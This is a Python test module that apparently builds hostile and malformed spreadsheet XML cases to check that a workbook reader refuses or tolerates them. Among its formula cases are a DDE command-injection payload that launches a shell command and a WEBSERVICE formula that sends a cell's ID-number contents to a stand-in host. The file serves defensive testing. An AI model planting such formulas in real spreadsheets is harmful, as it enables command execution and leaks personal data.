"""The sheet's XML bent: addresses, kinds of cells, shared texts, namespaces, characters that XML may not hold."""

import re
from collections.abc import Callable, Iterator, Mapping
from functools import partial

from tests.support.books import SHEET_PART, repack
from tests.support.hostile.case import (
    STRINGS_PART,
    Case,
    Fate,
    Given,
    Good,
    Way,
    cell_of,
    in_part,
    in_sheet,
    row_of,
    shared,
    swap,
    text_cell,
    then,
    with_cells,
)

Edit = Callable[[str], str]
NEW = "测试员甲、测试员乙"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def cases(good: Good) -> Iterator[Case]:
    """Cases of the sheet's XML and of the shared list."""
    yield from _addresses(good)
    yield from _doubled(good)
    yield from _kinds(good)
    yield from _strings(good)
    yield from _markup(good)


def _team(good: Good, row: int = 4, text: str = NEW) -> Mapping[str, Given]:
    serial = good.serials[row - 4]
    return {serial: (*good.answers[serial][:2], text)}


def _addresses(good: Good) -> Iterator[Case]:
    sizes = ["A1", "A1:A1", "A1:XFD1048576", "A1:B2", "K22", "C3:D4", "A22:K1", "A1:K21"]
    for ref in sizes:
        yield Case("dimension", ref, partial(in_sheet, good.plain, swap('ref="A1:K22"', f'ref="{ref}"')), Fate.HARMLESS)
    for ref in ("", "x", "A0", "A1:", "-1", "AAAAA1", "A99999999999"):
        yield Case(
            "dimension", f"bad {ref}", partial(in_sheet, good.plain, swap('ref="A1:K22"', f'ref="{ref}"')), Fate.EITHER
        )
    yield Case(
        "dimension", "none", lambda: in_sheet(good.plain, lambda x: re.sub("<dimension.*?/>", "", x)), Fate.HARMLESS
    )
    for row in ("0", "-5", "1048577", "99999999999", "1e3", "", "4.0", "٤", " 4", "0x4", "3", "5"):
        yield Case("row number", row, partial(in_sheet, good.plain, swap('<row r="4"', f'<row r="{row}"')), Fate.EITHER)
    for cell in (
        "A0",
        "K-4",
        "4K",
        "",
        "AAAA4",
        "K4 ",
        "k4",
        "$K$4",
        "K٤",
        "K04",
        "K4:K5",
        "R4C11",
        "K99999999999",
        "K",
        "4",
    ):
        yield Case(
            "cell address", cell, partial(in_sheet, good.plain, swap('<c r="K4"', f'<c r="{cell}"')), Fate.EITHER
        )
    for cell in ("L4", "K3", "K5", "K30", "J4", "A4"):
        yield Case("cell address", f"moved to {cell}",
        partial(in_sheet, good.plain, swap('<c r="K4"', f'<c r="{cell}"')),
                   Fate.REFUSED)  # fmt: skip
    bare = {
        "cells": lambda x: re.sub(r'<c r="[A-Z]+\d+"', "<c", x), "rows": lambda x: re.sub(r'<row r="\d+"', "<row", x),
        "both": lambda x: re.sub(r'<c r="[A-Z]+\d+"', "<c", re.sub(r'<row r="\d+"', "<row", x)),
    }  # fmt: skip
    for name, edit in bare.items():
        yield Case("bare", name, partial(in_sheet, good.plain, edit), Fate.HARMLESS)
    # A bare formula after a cell that says it stands elsewhere: wherever a reader puts it, it is no answer.
    for decoy in ('<c r="J9"/>', '<c r="A1"/>', '<c r="J4"/>', '<c r="XEZ4"/>', '<c r="J5"/>'):
        bare_formula = f'{decoy}<c t="str"><f>A1</f><v>{NEW}</v></c>'
        yield Case(
            "bare", f"formula after {decoy}", partial(with_cells, good.plain, {"K4": bare_formula}), Fate.REFUSED
        )


def _doubled(good: Good) -> Iterator[Case]:
    """The same cell twice: one of the two values, or refused; a formula in one of them is never overlooked."""
    plain = text_cell("K4", NEW)
    formula = f'<c r="K4" t="str"><f>A1</f><v>{NEW}</v></c>'
    blank = '<c r="K4"/>'
    for name, other, fate in (("text", plain, Fate.EITHER), ("formula", formula, Fate.REFUSED),
                              ("blank", blank, Fate.EITHER), ("error", '<c r="K4" t="e"><v>#N/A</v></c>', Fate.REFUSED),
                              ("formula no value", '<c r="K4"><f>A1</f></c>', Fate.REFUSED)):  # fmt: skip
        for place in ("before", "after", "row before", "row after", "end"):
            yield Case("same cell", f"{name} {place}", partial(in_sheet, good.plain, then(_again, other, place)),
                       fate, changed=({}, _team(good)))  # fmt: skip
    for column, text in (
        ("A", good.serials[1]),
        ("E", "别人"),
        ("G", "990101200101010018"),
        ("I", "M.其他原因"),
        ("J", "否"),
    ):
        for place in ("before", "after"):
            serial = good.serials[0]
            code, returned, team = good.answers[serial]
            other_answer = {serial: ("M" if column == "I" else code, "否" if column == "J" else returned, team)}
            yield Case("same cell", f"{column}4 {place}",
                       partial(in_sheet, good.plain, then(_again, text_cell(f'{column}4', text), place)),
                       Fate.EITHER, changed=({}, other_answer))  # fmt: skip
    for name, edit in {
        "row twice": lambda x: x.replace(row_of(x, 4), row_of(x, 4) * 2, 1),
        "row renumbered": lambda x: x.replace('<row r="5"', '<row r="4"', 1),
        "cells backwards": lambda x: x.replace(row_of(x, 4), _backwards(row_of(x, 4)), 1),
        "rows backwards": lambda x: x.replace(row_of(x, 4) + row_of(x, 5), row_of(x, 5) + row_of(x, 4), 1),
        "two tables of cells": lambda x: x.replace("</sheetData>",
        f"</sheetData><sheetData>{row_of(x, 4)}</sheetData>", 1),
    }.items():  # fmt: skip
        yield Case("same cell", name, partial(in_sheet, good.plain, edit), Fate.EITHER)


def _again(xml: str, other: str, place: str) -> str:
    address = re.search(r'r="([A-Z]+)4"', other)
    assert address is not None
    cell, row = cell_of(xml, f"{address[1]}4"), row_of(xml, 4)
    alone = f'<row r="4">{other}</row>'
    return {
        "before": lambda: xml.replace(cell, other + cell, 1), "after": lambda: xml.replace(cell, cell + other, 1),
        "row before": lambda: xml.replace(row, alone + row, 1), "row after": lambda: xml.replace(row, row + alone, 1),
        "end": lambda: xml.replace("</sheetData>", f"{alone}</sheetData>", 1),
    }[place]()  # fmt: skip


def _backwards(row: str) -> str:
    cells = re.findall(r"<c .*?</c>", row, re.DOTALL)
    return row.replace("".join(cells), "".join(reversed(cells)))


def _kinds(good: Good) -> Iterator[Case]:
    """One team in many kinds of cells: harmless where Excel writes it so, else never another answer."""
    harmless = {
        "rich": f'<c r="K4" t="inlineStr"><is><r><t>{NEW[:3]}</t></r><r><rPr><b/></rPr><t>{NEW[3:]}</t></r></is></c>',
        "string": f'<c r="K4" t="str"><v>{NEW}</v></c>',
        "preserved": text_cell("K4", NEW),
        "references": f'<c r="K4" t="inlineStr"><is><t>{"".join(f"&#{ord(s)};" for s in NEW)}</t></is></c>',
        "cdata": f'<c r="K4" t="inlineStr"><is><t><![CDATA[{NEW}]]></t></is></c>',
        "phonetic": f'<c r="K4" t="inlineStr"><is><t>{NEW}</t><rPh sb="0" eb="1"><t>ce</t></rPh></is></c>',
    }
    for name, cell in harmless.items():
        yield Case("cell kind", name, partial(with_cells, good.plain, {'K4': cell}),
        Fate.HARMLESS if name not in ("cdata", "references") else Fate.EITHER,
                   changed=(_team(good),))  # fmt: skip
    odd = {
        "comment inside": f'<c r="K4" t="inlineStr"><is><t>{NEW[:3]}<!--x-->{NEW[3:]}</t></is></c>',
        "unknown type": f'<c r="K4" t="x"><v>{NEW}</v></c>', "number as text": f'<c r="K4" t="n"><v>{NEW}</v></c>',
        "no type": f'<c r="K4"><v>{NEW}</v></c>', "date type": f'<c r="K4" t="d"><v>{NEW}</v></c>',
        "two values": f'<c r="K4" t="str"><v>{NEW}</v><v>{NEW}丙</v></c>',
        "value and inline": f'<c r="K4" t="inlineStr"><v>乙乙乙</v><is><t>{NEW}</t></is></c>',
        "two inlines": f'<c r="K4" t="inlineStr"><is><t>{NEW}</t></is><is><t>丙丙</t></is></c>',
        "nested cell": f'<c r="K4" t="inlineStr"><is><t>{NEW}</t></is><c r="K5"><v>7</v></c></c>',
        "nested text": f'<c r="K4" t="inlineStr"><is><t>{NEW}<t>丙丙</t></t></is></c>',
    }  # fmt: skip
    both = (_team(good), _team(good, text=NEW + "丙"), _team(good, text="乙乙乙"), _team(good, text="丙丙"),
    _team(good, text=NEW + "丙丙"),
            _team(good, text=NEW + NEW + "丙"), _team(good, text="乙乙乙" + NEW), _team(good, text=NEW[3:]),
            _team(good, text=NEW[:3]))  # fmt: skip
    for name, cell in odd.items():
        yield Case("cell kind", name, partial(with_cells, good.plain, {"K4": cell}), Fate.EITHER, changed=both)
    formulas = {
        "plain": "<f>A1</f>", "shared": '<f t="shared" ref="K4:K5" si="0">A1</f>',
        "shared again": '<f t="shared" si="0"/>',
        "array": '<f t="array" ref="K4">A1</f>', "table": '<f t="dataTable" ref="K4:K5" r1="A1"/>', "empty": "<f/>",
        "prefixed": '<x:f xmlns:x="urn:x">A1</x:f>', "dde": "<f>cmd|'/c calc'!A0</f>", "link": "<f>[1]Sheet1!A1</f>",
        "web": '<f>WEBSERVICE("http://a.invalid/"&amp;G4)</f>', "cdata": "<f><![CDATA[A1]]></f>",
        "hyperlink": '<f>HYPERLINK("http://a.invalid","x")</f>',
        "alternate": '<mc:AlternateContent xmlns:mc="urn:mc"><mc:Choice><f>A1</f></mc:Choice></mc:AlternateContent>',
    }  # fmt: skip
    for name, formula in formulas.items():
        cell = f'<c r="K4" t="str">{formula}<v>{NEW}</v></c>'
        yield Case(
            "formula", name, partial(with_cells, good.plain, {"K4": cell}), rules=frozenset({"R06", "F01", "F06"})
        )
    over = '<row r="30"><c r="M30"><f t="array" ref="{}">1</f><v>1</v></c></row></sheetData>'
    for ref in ("A1:XFD1048576", "K4:K21", "$K$4:$K$4", "A1:K22", "K21:K4", "K4:", ":K4", "x"):
        fate = Fate.EITHER if ref in ("K21:K4", "K4:", ":K4", "x") else Fate.REFUSED
        yield Case(
            "formula", f"array {ref}", partial(in_sheet, good.plain, swap("</sheetData>", over.format(ref))), fate
        )


def _strings(good: Good) -> Iterator[Case]:
    listed = shared(good.plain)
    yield Case("shared list", "as Excel stores", lambda: listed, Fate.HARMLESS)
    for column in "AEGIJK":
        for number in (
            "999999",
            "-1",
            "1.5",
            "abc",
            "",
            "4294967296",
            "18446744073709551616",
            "1e9",
            " 3",
            "+3",
            "0x3",
        ):
            cell = f'<c r="{column}4" t="s"><v>{number}</v></c>'
            yield Case("shared list", f"{column}4 {number!r}", partial(with_cells, listed, {f"{column}4": cell}))
    edits: dict[str, tuple[Edit, Fate]] = {
        "readings": (lambda x: x.replace("</t></si>",
        '</t><rPh sb="0" eb="1"><t>du</t></rPh><phoneticPr fontId="1"/></si>'), Fate.HARMLESS),
        "rich": (lambda x: re.sub("<t>([^<])([^<]*)</t>", r"<r><t>\1</t></r><r><rPr><b/></rPr><t>\2</t></r>", x),
        Fate.HARMLESS),
        "no count": (lambda x: re.sub(' count="[0-9]+"', "", x), Fate.HARMLESS),
        "wrong count": (lambda x: re.sub(' count="[0-9]+"', ' count="1"', x), Fate.HARMLESS),
        "item gone": (lambda x: x.replace("<si>", "<x>", 1).replace("</si>", "</x>", 1), Fate.REFUSED),
        "item first": (lambda x: x.replace("<si>", "<si><t>x</t></si><si>", 1), Fate.REFUSED),
        "empty": (lambda x: re.sub("<si>.*</si>", "", x), Fate.REFUSED),
        "unclosed": (lambda x: x.replace("</sst>", ""), Fate.EITHER),
        "cut": (lambda x: x[: len(x) // 2], Fate.REFUSED), "prefixed": (lambda x: _prefixed(x), Fate.EITHER),
        "after the end": (lambda x: x + "<sst><si><t>x</t></si></sst>", Fate.EITHER),
        "nested items": (lambda x: x.replace("<si>", "<si><si>", 1).replace("</si>", "</si></si>", 1), Fate.EITHER),
    }  # fmt: skip
    for name, (edit, fate) in edits.items():
        yield Case("shared list", name, partial(in_part, listed, STRINGS_PART, edit), fate)
    for encoding in ("utf-16", "utf-16-be", "utf-8-sig", "utf-32", "gb18030"):
        yield Case("encoding", f"strings {encoding}", partial(_encoded, listed, STRINGS_PART, encoding), Fate.EITHER)
        yield Case("encoding", f"sheet {encoding}", partial(_encoded, good.plain, SHEET_PART, encoding), Fate.EITHER)
        declared = {"utf-8-sig": "UTF-8", "utf-16-be": "UTF-16"}.get(encoding, encoding)
        head = f'<?xml version="1.0" encoding="{declared}"?>'
        yield Case(
            "encoding",
            f"sheet declared {encoding}",
            partial(_encoded, good.plain, SHEET_PART, encoding, head),
            Fate.EITHER,
        )


def _encoded(workbook: bytes, part: str, encoding: str, head: str = "") -> bytes:
    def change(parts: dict[str, bytes]) -> None:
        parts[part] = (head + parts[part].decode()).encode(encoding)

    return repack(workbook, change)


def _prefixed(xml: str) -> str:
    xml = re.sub(r"<(/?)(?=[a-zA-Z])(?![a-zA-Z]+:)", r"<\1x:", xml)
    return xml.replace(f'xmlns="{MAIN}"', f'xmlns:x="{MAIN}"')


def _markup(good: Good) -> Iterator[Case]:
    strict = "http://purl.oclc.org/ooxml/spreadsheetml/main"
    edits: dict[str, Edit] = {
        "prefixed": _prefixed, "strict": lambda x: x.replace(MAIN, strict),
        "foreign": lambda x: x.replace(MAIN, "urn:foreign"),
        "no namespace": lambda x: x.replace(f' xmlns="{MAIN}"', ""),
        "upper case": lambda x: x.replace("<row ", "<ROW ").replace("</row>", "</ROW>"),
        "unclosed": lambda x: x.replace("</worksheet>", ""),
        "no data": lambda x: re.sub("<sheetData>.*</sheetData>", "", x),
        "two roots": lambda x: x + x, "text after": lambda x: x + "x", "cut": lambda x: x[: len(x) * 2 // 3],
        "comment": lambda x: f"<!-- x -->{x}", "instruction": lambda x: f"<?x y?>{x}",
        "xml 1.1": lambda x: f'<?xml version="1.1"?>{x}',
        "standalone": lambda x: f'<?xml version="1.0" standalone="no"?>{x}', "blank before": lambda x: f" {x}",
        "nul after": lambda x: x + "\0",
    }  # fmt: skip
    for name, edit in edits.items():
        yield Case(
            "markup", name, partial(in_sheet, good.plain, edit), Fate.EITHER, (Way.SEALED, Way.PLAIN)[len(name) % 2]
        )
    chars = {"nul": "&#0;", "bell": "&#7;", "surrogate": "&#xD800;", "beyond": "&#x110000;", "unknown": "&nbsp;",
    "raw bell": "\x07",
             "raw nul": "\0", "raw surrogate": "\ud800", "raw pair": "\ud83d\ude00", "no character": "\uffff",
             "lone &": "&", "lone <": "<"}  # fmt: skip
    listed = shared(good.plain)
    for name, char in chars.items():
        for column in "KE":
            old = f'<c r="{column}4" s="{13 if column == "K" else 12}" t="inlineStr"><is><t>'
            yield Case("character", f"{column} {name}", partial(in_sheet, good.plain, swap(old, f"{old}甲乙{char}")))
        yield Case("character", f"list {name}", partial(in_part, listed, STRINGS_PART, then(_in_team, good, char)))


def _in_team(xml: str, good: Good, char: str) -> str:
    team = good.answers[good.serials[0]][2]
    assert f"<t>{team}" in xml
    return xml.replace(f"<t>{team}", f"<t>{team}{char}", 1)
